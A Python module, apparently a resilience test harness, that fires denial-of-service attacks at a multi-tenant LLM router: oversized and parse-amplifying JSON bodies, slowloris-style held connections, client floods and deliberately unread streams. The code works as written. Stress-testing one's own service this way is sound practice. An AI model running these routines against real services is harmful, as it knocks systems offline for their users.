"""What one department's key, or none, is used for against all others; at what has been agreed to be its worst.

Each attack ends by itself, and says how its requests were answered: 0 where a connection was closed without an answer.
"""

import asyncio
import contextlib
import io
import json
import select
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import aiohttp

from .gauntlet import TIMES
from .traffic import question

ATTACKER, VICTIM = "cardiology", "paediatrics"
CHAT, GENERATE = "/v1/chat/completions", "/generate"
PATIENCE = aiohttp.ClientTimeout(total=120)
HELD_SECONDS = 20.0 * TIMES
"""How long connections are held, and clients ask: twice what a kubelet's probes take to give a pod up."""
SLOW_SECONDS = 2.0
"""Between two bytes of a slow head."""
UNREAD_SECONDS = 120
"""How long streams are left unread: time to write all 50, and to give up those that do not move (20 s)."""


@dataclass(frozen=True)
class Target:
    """Where it hurts."""

    url: str
    router: str
    """The address of one router pod, past the Service that deals connections to all."""
    port: int
    key: str


Answers = Counter[int]
Attack = Callable[[Target], Awaitable[Answers]]


async def invalid_messages(target: Target) -> Answers:
    """Twelve bodies at once whose messages are all wrong: 300,000, or as many as a router lets pass."""
    wrong = [{"model": ATTACKER, "messages": [0] * count} for count in (300_000, 19_000)]
    return await at_once(target, CHAT, [json.dumps(body, separators=(",", ":")).encode() for body in wrong] * 6)


async def dense_prompts(target: Target) -> Answers:
    """Eight prompts whose every byte is a token: as long as they were when they hurt, and as long as a body may be."""
    bodies = [json.dumps({"inputs": "1!" * count, "parameters": {}}).encode() for count in (950_000, 520_000)]
    return await at_once(target, GENERATE, bodies * 4)


async def empty_lists(target: Target) -> Answers:
    """Twelve bodies that grow thirtyfold when parsed: 630,000 lists, as many as fit a body, as many as pass."""
    bodies = [b'{"inputs":[' + b",".join([b"[]"] * count) + b"]}" for count in (630_000, 340_000, 9_000)]
    return await at_once(target, GENERATE, bodies * 4)


async def at_once(target: Target, path: str, bodies: list[bytes]) -> Answers:
    """All of them together, each on a connection of its own."""
    connector = aiohttp.TCPConnector(limit=0, force_close=True)
    async with aiohttp.ClientSession(connector=connector, timeout=PATIENCE) as session:
        return Counter(await asyncio.gather(*(_post(session, target, path, body) for body in bodies)))


async def _post(session: aiohttp.ClientSession, target: Target, path: str, body: bytes) -> int:
    headers = {"Authorization": f"Bearer {target.key}", "Content-Type": "application/json"}
    try:
        async with session.post(target.url + path, data=io.BytesIO(body), headers=headers) as answer:
            await answer.read()
            return answer.status
    except aiohttp.ClientError:
        return 0


async def connections(target: Target) -> Answers:
    """1,100 to one router, without a key: every other one idle, the rest sending a head that never ends."""
    held = await asyncio.gather(*(_hold(target, slow=bool(number % 2)) for number in range(1_100)))
    return Counter(held)


async def _hold(target: Target, *, slow: bool) -> int:
    """Made again whenever it is closed, as an attacker would."""
    until, status = time.monotonic() + HELD_SECONDS, 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(until - time.monotonic()):
                status = await _hold_once(target, slow=slow)
        await asyncio.sleep(1)
    return status


async def _hold_once(target: Target, *, slow: bool) -> int:
    reader, writer = await asyncio.open_connection(target.router, target.port)
    try:
        if not slow:
            return _status(await reader.read(64))
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: wardrobe\r\n")
        while not reader.at_eof():
            writer.write(b"X-Slow: 1\r\n")
            await writer.drain()
            await asyncio.sleep(SLOW_SECONDS)
        return _status(await reader.read(64))
    finally:
        writer.close()


def _status(answered: bytes) -> int:
    """Of the answer's first line; 0 for none."""
    return int(answered.split()[1]) if answered.startswith(b"HTTP/1.") else 0


async def many_clients(target: Target) -> Answers:
    """200 of one department, each asking again as soon as it is answered."""
    until = time.monotonic() + HELD_SECONDS
    body = json.dumps(question(ATTACKER, 24)).encode()
    connector = aiohttp.TCPConnector(limit=0)

    async def client(session: aiohttp.ClientSession) -> Answers:
        answers = Answers()
        while time.monotonic() < until:
            answers[status := await _post(session, target, CHAT, body)] += 1
            await asyncio.sleep(0 if status == 200 else 0.5)  # as clients do that are told to come again
        return answers

    async with aiohttp.ClientSession(connector=connector, timeout=PATIENCE) as session:
        return sum(await asyncio.gather(*(client(session) for _ in range(200))), Answers())


async def unread_streams(target: Target) -> Answers:
    """50 that are asked for and never read, until the other end has given up each; 200 where it has not."""
    loop = asyncio.get_running_loop()
    with ThreadPoolExecutor(50) as threads:
        return Counter(await asyncio.gather(*(loop.run_in_executor(threads, _leave_unread, target) for _ in range(50))))


def _leave_unread(target: Target) -> int:
    """With the least of a buffer, so that the kernel does not read in the client's place."""
    body = json.dumps({**question(ATTACKER, 300, stream=True), "temperature": 1.5}).encode()
    head = f"POST {CHAT} HTTP/1.1\r\nHost: wardrobe\r\nAuthorization: Bearer {target.key}\r\n"
    sent = f"{head}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        connection.connect((target.router, target.port))
        connection.sendall(sent)
        closed = select.poll()
        closed.register(connection, select.POLLRDHUP)
        return 0 if closed.poll(UNREAD_SECONDS * 1000) else 200


IDLE = "1,100 idle and slow connections"
CROWD = "200 clients of one department"
UNREAD = "50 streams that are never read"
LONG = {IDLE, CROWD, UNREAD}
ATTACKS: dict[str, Attack] = {
    "twelve bodies of invalid messages": invalid_messages,
    "eight prompts, a token a byte": dense_prompts,
    "twelve bodies of empty lists": empty_lists,
    IDLE: connections,
    CROWD: many_clients,
    UNREAD: unread_streams,
}
